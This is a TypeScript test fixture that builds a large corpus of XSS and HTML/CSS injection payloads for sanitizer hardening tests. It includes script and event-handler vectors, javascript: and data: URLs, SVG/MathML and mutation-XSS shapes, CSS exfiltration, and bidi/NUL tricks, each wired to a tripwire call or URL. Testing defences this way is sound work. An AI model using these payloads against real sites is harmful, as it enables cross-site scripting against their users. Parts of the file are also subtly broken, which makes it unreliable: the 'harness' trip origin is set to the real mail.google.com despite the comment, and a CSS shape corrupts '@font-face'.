// Hostile strings for the hardening tests: what a user might paste into a template, a field or
// the profile, and what an import file from elsewhere might carry. Each payload carries its own
// id: if one ever runs, the page's tripwire (`__dpTrip('<id>')`) or a request to
// `<TRIP_ORIGIN>/__trip/<id>` names the culprit. Written here from the vector classes (HTML
// parsing, URL schemes, SVG/MathML namespaces, CSS, Unicode), not copied from a cheat sheet.
// Part of the corpus is generated (vectors × the contexts they are dropped into), part is
// hand-written shapes that do not fit a grid.

export type PayloadKind =
  | 'script-tag' | 'event-handler' | 'javascript-url' | 'data-url' | 'svg' | 'mathml' | 'mutation-xss'
  | 'css-injection' | 'long-string' | 'malformed' | 'rtl-override' | 'null-byte' | 'template-marker' | 'encoded';

export interface Payload {
  /** Letters, digits and hyphens only, so it sits safely inside the JavaScript and URLs it appears in. */
  readonly id: string;
  readonly kind: PayloadKind;
  readonly text: string;
}

/** The page function a payload calls when it runs. */
export const TRIP_FUNCTION = '__dpTrip';
/** Requests a payload makes when it loads (CSS, frames, images) go here; the e2e harness records them. */
export const TRIP_ORIGIN = 'https://mail.google.com';
export const TRIP_PATH = '/__trip/';

const call = (id: string): string => `${TRIP_FUNCTION}('${id}')`;
const url = (id: string): string => `${TRIP_ORIGIN}${TRIP_PATH}${id}`;

/** One way to make a page run code or fetch something, as markup that calls back with `id`. */
interface Vector { name: string; kind: PayloadKind; markup(id: string): string }

const VECTORS: readonly Vector[] = [
  { name: 'script', kind: 'script-tag', markup: (id) => `<script>${call(id)}</script>` },
  { name: 'img', kind: 'event-handler', markup: (id) => `<img src=x onerror="${call(id)}">` },
  { name: 'focus', kind: 'event-handler', markup: (id) => `<input autofocus onfocus="${call(id)}">` },
  { name: 'toggle', kind: 'event-handler', markup: (id) => `<details open ontoggle="${call(id)}"><summary>x</summary></details>` },
  { name: 'svgload', kind: 'svg', markup: (id) => `<svg onload="${call(id)}"><rect width="9" height="9"/></svg>` },
  { name: 'svganim', kind: 'svg', markup: (id) => `<svg><a><animate attributeName="href" values="javascript:${call(id)}"/><text y="9">go</text></a></svg>` },
  { name: 'jslink', kind: 'javascript-url', markup: (id) => `<a href="javascript:${call(id)}">open</a>` },
  { name: 'formaction', kind: 'javascript-url', markup: (id) => `<form><button formaction="javascript:${call(id)}">send</button></form>` },
  { name: 'frame', kind: 'data-url', markup: (id) => `<iframe src="data:text/html,<img src='${url(id)}'>"></iframe>` },
  { name: 'object', kind: 'data-url', markup: (id) => `<object data="data:text/html;base64,${btoa(`<img src='${url(id)}'>`)}" title="${id}"></object>` },
  { name: 'mathml', kind: 'mathml', markup: (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${call(id)}">` },
  { name: 'styleattr', kind: 'css-injection', markup: (id) => `<div style="background:url('${url(id)}')">x</div>` },
  { name: 'import', kind: 'css-injection', markup: (id) => `<style>@import url("${url(id)}");</style>` },
  { name: 'noscript', kind: 'mutation-xss', markup: (id) => `<noscript><p title="</noscript><img src=x onerror=${call(id)}>">` },
];

/** Where a vector is dropped: each context wraps the markup as an attacker would, to escape an imagined surrounding. */
const CONTEXTS: readonly { name: string; wrap(markup: string): string }[] = [
  { name: 'bare', wrap: (m) => m },
  { name: 'sentence', wrap: (m) => `We meet on ${m} next week.` },
  { name: 'attr', wrap: (m) => `x" title='y'>${m}` },
  { name: 'closers', wrap: (m) => `</textarea></title></style></script></noscript>${m}` },
  { name: 'comment', wrap: (m) => `--!><!-->${m}<!--` },
  { name: 'case', wrap: (m) => m.replace(/<(\/?)([a-z]+)/g, (_, slash: string, tag: string) => `<${slash}${tag[0]!.toUpperCase()}${tag.slice(1)}`) },
  { name: 'slash', wrap: (m) => m.replace(/<([a-zA-Z]+) /g, '<$1/') },
  { name: 'lines', wrap: (m) => m.replace(/ /g, '\n') },
  { name: 'entities', wrap: (m) => m.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/javascript:/g, '&#106;avascript&colon;') },
  { name: 'cdata', wrap: (m) => `<![CDATA[]]>${m}<![CDATA[` },
];

const generated: Payload[] = VECTORS.flatMap((vector) => CONTEXTS.map((context) => {
  const id = `g-${vector.name}-${context.name}`;
  // Entity-encoded markup is not markup: it is text that only a careless double decode would revive.
  const kind = context.name === 'entities' ? 'encoded' : vector.kind;
  return { id, kind, text: context.wrap(vector.markup(id)) };
}));

/** Hand-written shapes: `§` stands for the trip call, `¤` for the trip URL, both named by the id. */
const SHAPES: readonly [string, PayloadKind, string][] = [
  // Script tags in forms a naive filter misses.
  ['k-script-split', 'script-tag', '<scr<script>ipt>§</scr</script>ipt>'],
  ['k-script-src', 'script-tag', '<script src="¤"></script>'],
  ['k-script-nested', 'script-tag', '<<script>script>§<</script>/script>'],
  ['k-script-svg', 'script-tag', '<svg><script>§</script></svg>'],
  ['k-script-type', 'script-tag', '<script type="module">§</script>'],
  ['k-script-unclosed', 'script-tag', '<script>§'],
  // Event handlers on elements a short allowlist might keep.
  ['k-ev-b', 'event-handler', '<b onmouseover="§" onclick="§">bold</b>'],
  ['k-ev-p', 'event-handler', '<p onpointerenter="§">para</p>'],
  ['k-ev-div-anim', 'event-handler', '<div style="animation:dp 1s" onanimationstart="§">x</div>'],
  ['k-ev-a', 'event-handler', '<a href="https://example.com/" onfocus="§" autofocus tabindex=1>link</a>'],
  ['k-ev-body', 'event-handler', '<body onload="§">'],
  ['k-ev-video', 'event-handler', '<video><source onerror="§"></video>'],
  ['k-ev-audio', 'event-handler', '<audio src=x onerror=§>'],
  ['k-ev-marquee', 'event-handler', '<marquee onstart="§">m</marquee>'],
  ['k-ev-nospace', 'event-handler', '<img/src/onerror=§>'],
  ['k-ev-backtick', 'event-handler', '<img src=x onerror=`§`>'],
  ['k-ev-unquoted-nl', 'event-handler', '<img src=x\nonerror\n=\n§>'],
  // URL schemes.
  ['k-js-mixed', 'javascript-url', '<a href="JaVaScRiPt:§">a</a>'],
  ['k-js-tab', 'javascript-url', '<a href="java\tscript:§">a</a>'],
  ['k-js-lead', 'javascript-url', '<a href=" \x01javascript:§">a</a>'],
  ['k-js-entity', 'javascript-url', '<a href="&#x6A;avascript&#x3A;§">a</a>'],
  ['k-js-vbs', 'javascript-url', '<a href="vbscript:msgbox(1)">a</a> §'],
  ['k-js-area', 'javascript-url', '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:§"></map>'],
  ['k-js-base', 'javascript-url', '<base href="javascript:§//"><a href="/x">x</a>'],
  ['k-js-meta', 'javascript-url', '<meta http-equiv="refresh" content="0;url=javascript:§">'],
  ['k-js-markdown', 'javascript-url', '[click me](javascript:§)'],
  ['k-js-bare', 'javascript-url', 'javascript:§'],
  ['k-data-html', 'data-url', '<a href="data:text/html,<script>alert(1)</script>">d</a> ¤'],
  ['k-data-svg-img', 'data-url', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'§\'/>">'],
  ['k-data-embed', 'data-url', '<embed src="data:text/html,<img src=\'¤\'>">'],
  ['k-data-bare', 'data-url', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== ¤'],
  // SVG and MathML: foreign content parses differently.
  ['k-svg-foreign', 'svg', '<svg><foreignObject><img src=x onerror="§"></foreignObject></svg>'],
  ['k-svg-use', 'svg', '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'¤\'/></svg>#x"/></svg>'],
  ['k-svg-set', 'svg', '<svg><set attributeName="onmouseover" to="§"/></svg>'],
  ['k-svg-style', 'svg', '<svg><style>rect{fill:url(¤)}</style><rect width=9 height=9 /></svg>'],
  ['k-svg-xlink', 'svg', '<svg><a xlink:href="javascript:§"><text y=9>x</text></a></svg>'],
  ['k-svg-title', 'svg', '<svg><title><img src=x onerror="§"></title></svg>'],
  ['k-math-href', 'mathml', '<math href="javascript:§"><mi>x</mi></math>'],
  ['k-math-maction', 'mathml', '<math><maction actiontype="statusline" xlink:href="javascript:§">x</maction></math>'],
  ['k-math-annotation', 'mathml', '<math><annotation-xml encoding="text/html"><img src=x onerror="§"></annotation-xml></math>'],
  ['k-math-mi-style', 'mathml', '<math><mi><style><img src=x onerror="§"></style></mi></math>'],
  // Mutation XSS: markup that reads safe once and changes meaning when serialized and parsed again.
  ['k-mx-form', 'mutation-xss', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="§">'],
  ['k-mx-svg-p', 'mutation-xss', '<svg></p><style><a title="</style><img src=x onerror=§>">'],
  ['k-mx-table', 'mutation-xss', '<table><a title="<img src=x onerror=§>"><td>x</td></a></table>'],
  ['k-mx-template', 'mutation-xss', '<template><style></template><img src=x onerror="§"></style></template>'],
  ['k-mx-textarea', 'mutation-xss', '<textarea></textarea><img title="</textarea><img src=x onerror=§>">'],
  ['k-mx-xmp', 'mutation-xss', '<xmp><p title="</xmp><img src=x onerror=§>"></xmp>'],
  ['k-mx-listing', 'mutation-xss', '<listing>&lt;img src=x onerror=§&gt;</listing>'],
  ['k-mx-comment-attr', 'mutation-xss', '<p title="--><img src=x onerror=§>"><!--</p>'],
  ['k-mx-select', 'mutation-xss', '<select><template><style><img src=x onerror=§></style></template></select>'],
  ['k-mx-ns-confusion', 'mutation-xss', '<svg><p><style><img src=x onerror="§"></p></svg>'],
  // CSS: requests, overlays and hidden text.
  ['k-css-style-tag', 'css-injection', '<style>*{background:url(¤)!important}</style>'],
  ['k-css-font', 'css-injection', '<style>¤font-face{font-family:x;src:url(¤)}body{font-family:x}</style>'],
  ['k-css-overlay', 'css-injection', '<div style="position:fixed;inset:0;z-index:2147483647;background:red" onclick="§">covered</div>'],
  ['k-css-hide', 'css-injection', '<span style="display:none">hidden</span><span style="font-size:0">tiny</span> ¤'],
  ['k-css-expression', 'css-injection', '<div style="width:expression(§)">x</div>'],
  ['k-css-link', 'css-injection', '<link rel=stylesheet href="¤">'],
  ['k-css-attr-sel', 'css-injection', '<style>input[value^="a"]{background:url(¤)}</style>'],
  ['k-css-escape', 'css-injection', '<div style="background:u\\72l(¤)">x</div>'],
  // Long and malformed strings.
  ['k-long-bold', 'long-string', `${'<b>'.repeat(1200)}§`],
  ['k-long-nest', 'long-string', `${'<div>'.repeat(700)}<img src=x onerror="§">`],
  ['k-long-word', 'long-string', `${'A'.repeat(3800)}§`],
  ['k-long-field', 'long-string', `${'ABCDEFGHIJ'.repeat(28)}§`],
  ['k-long-over', 'long-string', `${'x'.repeat(4100)}§`],
  ['k-long-lines', 'long-string', `${'line\n'.repeat(300)}§`],
  ['k-long-entity', 'long-string', `${'&amp;'.repeat(600)}§`],
  ['k-mal-unclosed', 'malformed', '<img src="x onerror="§"'],
  ['k-mal-brackets', 'malformed', '<<<<>>>><<img>>§<</'],
  ['k-mal-quotes', 'malformed', `'"\`'"\`<a href='"'>§</a>`],
  ['k-mal-surrogate', 'malformed', '\uD800 half \uDFFF pair §'],
  ['k-mal-bom', 'malformed', '\uFEFF\uFEFF§\uFEFF'],
  ['k-mal-crlf', 'malformed', 'a\r\n\r\nb\rc\u2028d\u2029e §'],
  ['k-mal-combining', 'malformed', `Z${'\u0335\u0336\u0337'.repeat(60)} §`],
  ['k-mal-emoji', 'malformed', '👩🏽‍💻🏳️‍🌈🇪🇸 §'],
  ['k-mal-percent', 'malformed', '%3Cimg%20src%3Dx%20onerror%3D§%3E'],
  ['k-mal-fullwidth', 'malformed', '＜img src=x onerror=§＞'],
  ['k-mal-proto', 'malformed', '__proto__ constructor prototype toString §'],
  ['k-mal-json', 'malformed', '{"dp":1,"type":"draft/insert"} ]]> §'],
  // Bidirectional overrides and invisible characters.
  ['k-rtl-override', 'rtl-override', 'Invoice \u202Efdp.exe\u202C §'],
  ['k-rtl-isolate', 'rtl-override', '\u2067<img src=x onerror=§>\u2069'],
  ['k-rtl-marks', 'rtl-override', '\u200F\u200E\u202B§\u202A\u202C'],
  ['k-rtl-hebrew', 'rtl-override', 'שלום <b>§</b> مرحبا'],
  ['k-rtl-zero-width', 'rtl-override', 'ja\u200Bvascript:§ \u200C\u200D\u2060'],
  // NUL and other C0/C1 controls, which parsers drop or replace.
  ['k-nul-tag', 'null-byte', '<scr\u0000ipt>§</script>'],
  ['k-nul-handler', 'null-byte', '<img src=x on\u0000error="§">'],
  ['k-nul-scheme', 'null-byte', '<a href="java\u0000script:§">a</a>'],
  ['k-nul-lead', 'null-byte', '\u0000\u0000§\u0000'],
  ['k-nul-controls', 'null-byte', '\u0001\u0007\u0008\u001B[31m\u007F\u0085\u009B §'],
  // Look like our own variables or a template engine's: refused in a template, text in a field.
  ['k-tm-marker', 'template-marker', '{{clientName}}{{constructor}} §'],
  ['k-tm-unclosed', 'template-marker', '{{date §'],
  ['k-tm-engine', 'template-marker', '${alert(1)} <%= 7*7 %> {{7*7}} §'],
];

const handWritten: Payload[] = SHAPES.map(([id, kind, shape]) => ({
  id, kind, text: shape.replaceAll('§', call(id)).replaceAll('¤', url(id)),
}));

export const PAYLOADS: readonly Payload[] = [...generated, ...handWritten];
